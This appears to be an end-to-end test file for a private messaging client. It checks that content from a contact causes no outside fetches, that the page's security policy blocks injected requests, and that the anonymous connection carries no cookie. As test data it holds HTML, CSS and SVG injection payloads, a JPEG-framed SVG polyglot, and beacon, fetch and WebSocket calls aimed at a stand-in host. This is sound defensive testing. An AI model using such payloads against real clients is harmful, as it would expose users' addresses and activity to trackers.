/**
 * What leaves a real browser: nothing that a contact's words or picture ask for, and no cookie on the anonymous connection. All of the
 * browser's traffic goes through a proxy that notes every other host it is asked for. Rows A80 and A83.
 */
import { isPicture } from '@tacet/protocol/content/picture';
import { en } from '../../client/ui/text/en.ts';
import { openProxy, type Proxy } from '../hostile/proxy.ts';
import { ANONYMOUS_PATH } from '../support/hostile-wire.ts';
import { textsOf } from '../support/make-client.ts';
import { begin } from './beginning.ts';
import { expect, test as base } from './fixtures.ts';
import { expectPlain, lookAround, openMalloryFor, showProfile } from './planted.ts';

const CLICKED = 'http://leak.test/clicked';

const LEAKS = [
  '![](https://leak.test/1.png) <img src=https://leak.test/2.png srcset="https://leak.test/3.png 2x">',
  '<link rel=prefetch href=https://leak.test/4><link rel=stylesheet href=//leak.test/5.css>',
  '@import url(https://leak.test/6.css); body { background: url(https://leak.test/7.png) }',
  '<meta http-equiv=refresh content="0;url=http://leak.test/8"> <video poster=https://leak.test/9>',
  `https://leak.test/10.png ws://leak.test/11 //leak.test/12 ${CLICKED}`,
].join('\n');

/** A drawing that fetches. */
const DRAWING = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg"><image href="https://leak.test/13.png" width="9" height="9"/></svg>',
);

/** What passes for a photo by its frame, with the drawing in its notes and in its data. */
function photoOf(drawing: Uint8Array): Uint8Array {
  const length = drawing.length + 2;
  const notes = [0xff, 0xe1, length >> 8, length & 0xff, ...drawing];
  const frame = [0xff, 0xc0, 0, 11, 8, 0, 64, 0, 64, 1, 1, 0x11, 0];
  const scan = [0xff, 0xda, 0, 8, 1, 1, 0, 0, 63, 0];
  return Uint8Array.of(0xff, 0xd8, ...notes, ...frame, ...scan, ...drawing, 0xff, 0xd9);
}

/** Ada’s browser reaches everything through a proxy. */
const test = base.extend<{ readonly way: Proxy }>({
  way: async ({ host }, use) => {
    await using proxy = await openProxy(host.origin);
    await use(proxy);
  },
  ada: async ({ host, kept, newBrowser, way }, use) => {
    if (kept === undefined) throw new Error('nobody has an account');
    await use(await begin(await newBrowser({ proxy: way.url }), host.origin, kept.ada));
  },
});
test.use({ beginning: 'ada' });

test('A80: nothing of what a contact writes, is called or shows is fetched; a link is when it is pressed', async ({
  ada,
  way,
}) => {
  await using mallory = await openMalloryFor(ada);
  const name = '<img src=//leak.test/14> https://leak.test/15.png';
  await showProfile(mallory, name, DRAWING);
  await expect(ada.item(name)).toBeVisible();
  await ada.open(name);
  await ada.send(`mine ${LEAKS}`);
  await mallory.sayBody('text', { text: `his ${LEAKS}` });
  await ada.expectOnce('his ');
  await expect(ada.page.locator('img')).toHaveCount(0);
  await lookAround(ada, name, { theirs: 'his ', own: 'mine ' });
  const photo = photoOf(DRAWING);
  expect(isPicture(photo)).toBe(true);
  await showProfile(mallory, name, photo);
  await expect(ada.page.locator('img[src^="blob:"]').first()).toBeAttached();
  await expectPlain(ada.page);

  const link = ada.message('his ').getByRole('link', { name: CLICKED, exact: true });
  await link.hover();
  await link.focus();
  await mallory.send('after it');
  await ada.expectOnce('after it');
  expect(way.elsewhere).toEqual([]);

  const opened = ada.page.waitForEvent('popup');
  await link.click();
  const popup = await opened;
  await expect.poll(() => way.elsewhere).toContain(CLICKED);
  expect(way.elsewhere.filter((address) => address !== CLICKED)).toEqual([]);
  await popup.waitForLoadState();
  expect(await popup.evaluate(() => [opener, document.referrer])).toEqual([null, '']);
  await popup.close();
  await ada.send('still here');
  await mallory.client.waitFor('it', (state) => textsOf(state).includes('still here'));
});

test('A80: what stood in the page all the same could fetch nothing from elsewhere and send nothing there', async ({
  ada,
  way,
}) => {
  const page = await ada.page.context().newPage();
  await page.goto(ada.origin);
  await expect(page.getByRole('navigation', { name: en.list.label })).toBeVisible();
  const stopped = new Set<string>();
  await page.exposeFunction('note', (directive: string) => void stopped.add(directive));
  await page.evaluate(async () => {
    const { note } = globalThis as unknown as { readonly note: (directive: string) => void };
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      note(effectiveDirective),
    );
    // Without TLS: of a frame or form that it is going to refuse, Chromium may still greet the host by a tunnel, and say nothing in it.
    const away = 'http://leak.test/';
    const add = <Name extends keyof HTMLElementTagNameMap>(
      named: Name,
      attributes: Readonly<Record<string, string>>,
    ): HTMLElementTagNameMap[Name] => {
      const element = document.createElement(named);
      for (const [attribute, value] of Object.entries(attributes)) element.setAttribute(attribute, value);
      return document.body.appendChild(element);
    };
    add('img', { src: `${away}1` });
    add('video', { poster: `${away}2`, src: `${away}3` });
    add('audio', { src: `${away}4` });
    add('iframe', { src: `${away}5` });
    add('link', { rel: 'stylesheet', href: `${away}7` });
    add('link', { rel: 'prefetch', href: `${away}8` });
    add('link', { rel: 'icon', href: `${away}9` });
    add('link', { rel: 'manifest', href: `${away}10` });
    add('p', { style: `background: url(${away}11)` }).textContent = 'x';
    add('style', {}).textContent = `@import url(${away}12); p { background: url(${away}13) }`;
    document.fonts.add(new FontFace('leak', `url(${away}14)`));
    document.fonts.load('1em leak').catch(() => undefined);
    add('form', { action: `${away}15`, method: 'post' }).submit();
    navigator.sendBeacon(`${away}16`, 'x');
    new EventSource(`${away}17`).addEventListener('error', () => undefined);
    new WebSocket('ws://leak.test/18').addEventListener('error', () => undefined);
    await fetch(`${away}19`, { mode: 'no-cors' }).catch(() => undefined);
    const request = new XMLHttpRequest();
    request.open('GET', `${away}20`);
    await new Promise((resolve) => {
      request.addEventListener('loadend', resolve);
      request.send();
    });
  });
  const directives = ['connect', 'font', 'frame', 'img', 'media', 'style'].map((what) => `${what}-src`);
  await expect
    .poll(() =>
      [...directives, 'form-action'].filter((each) => ![...stopped].some((by) => by.startsWith(each))),
    )
    .toEqual([]);
  expect(way.elsewhere).toEqual([]);
  await page.close();
});

test('A83: a browser that has a cookie of its session opens the anonymous connection without it', async ({
  ada,
  way,
}) => {
  await using mallory = await openMalloryFor(ada);
  await ada.open(mallory.name);
  await ada.send('by the side door');
  await mallory.client.waitFor('it', (state) => textsOf(state).includes('by the side door'));
  expect(await ada.page.context().cookies()).toHaveLength(1);
  const renewed = way.wire.asked.filter(({ headers }) => headers['cookie'] !== undefined);
  expect(renewed.length, 'it goes where it is for').toBeGreaterThan(0);
  const anonymous = way.handshakes.filter(({ path }) => path.startsWith(ANONYMOUS_PATH));
  expect(anonymous.length).toBeGreaterThan(0);
  for (const { path, headers } of anonymous) {
    expect(path).toBe(ANONYMOUS_PATH);
    for (const told of ['cookie', 'authorization', 'referer', 'sec-websocket-protocol'])
      expect(headers).not.toHaveProperty(told);
  }
  const sends = way.wire.said.filter(({ kind }) => kind === 'send');
  expect(sends.length).toBeGreaterThan(0);
});
